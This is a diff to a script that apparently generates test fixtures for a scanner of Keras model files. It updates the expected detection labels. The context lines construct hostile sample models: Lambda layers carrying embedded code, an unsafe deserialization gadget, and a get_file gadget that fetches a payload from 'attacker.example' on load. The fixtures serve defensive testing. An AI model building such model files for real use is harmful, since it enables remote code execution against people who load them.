@@ -134,7 +134,7 @@ keras_zip("gadget_get_file.keras", with_layer(obj("keras.layers", "Lambda", {
     "name": "lambda", "dtype": POLICY,
     "function": obj("keras.src.utils.file_utils", "function", "get_file", "get_file"),
     "arguments": {"fname": "x", "origin": "https://attacker.example/payload.keras"}})),
-    "keras.lambda,keras.function.gadget")
+    "keras.lambda,keras.function.gadget,keras.config.path")
 keras_zip("gadget_unsafe.keras", with_layer(obj("keras.layers", "Lambda", {
     "name": "lambda", "dtype": POLICY,
     "function": obj("keras.src.saving.serialization_lib", "function",
@@ -155,14 +155,14 @@ with open(os.path.join(OUT, "model_json_lambda.json"), "w") as f:
     json.dump(with_layer({"class_name": "Lambda", "config": {
         "name": "lambda", "function": [CODE, None, None], "function_type": "lambda",
         "module": "__main__"}}), f)
-rows.append(("model_json_lambda.json", "keras.lambda"))
+rows.append(("model_json_lambda.json", "keras.lambda,keras.module.untrusted"))
 legacy_h5("legacy_lambda.h5", {"class_name": "Sequential", "config": {
     "name": "sequential", "layers": [
         {"class_name": "Dense", "config": {"name": "dense", "units": 2}},
         {"class_name": "Lambda", "config": {"name": "lambda", "function": [CODE, None, None],
                                             "function_type": "lambda",
                                             "module": "__main__"}}]}},
-    "keras.lambda")
+    "keras.lambda,keras.module.untrusted")
 
 # ---- layers and config values that load something else ----
 keras_zip("ok_lookup_inline.keras", with_layer(obj("keras.layers", "StringLookup", {
@@ -213,7 +213,7 @@ legacy_h5("hub_layer.h5", {"class_name": "Sequential", "config": {
 legacy_h5("legacy_lambda_dense.h5", {"config": {"name": "sequential", "layers": [
     {"config": {"name": "lambda", "function": [CODE, None, None], "function_type": "lambda",
                 "module": "__main__"}, "class_name": "Lambda"}]}, "class_name": "Sequential"},
-    "keras.lambda", libver="latest", extra=12)
+    "keras.lambda,keras.module.untrusted", libver="latest", extra=12)
 legacy_h5("training_gadget.h5", {"class_name": "Sequential", "config": {"name": "s",
                                                                         "layers": []}},
     "keras.function.gadget", libver="latest",
